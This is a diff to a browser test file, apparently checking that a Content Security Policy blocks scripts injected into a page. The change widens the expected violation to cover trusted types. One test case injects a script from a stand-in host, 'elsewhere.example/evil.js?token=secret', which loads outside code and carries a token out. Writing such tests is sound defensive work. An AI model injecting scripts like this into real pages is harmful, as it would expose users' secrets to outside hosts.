@@ -22,7 +22,8 @@ test.describe('what a stranger plants in the page', () => {
       script.textContent = 'window.planted = true'
       document.body.append(script)
     }],
-    ['a script of another host', 'script-src-elem', () => {
+    // The address of a script is looked at twice: as a trusted type, if no policy of ours is there yet, and as a host.
+    ['a script of another host', 'script-src-elem|require-trusted-types-for', () => {
       const script = document.createElement('script')
       script.src = 'https://elsewhere.example/evil.js?token=secret'
       document.body.append(script)
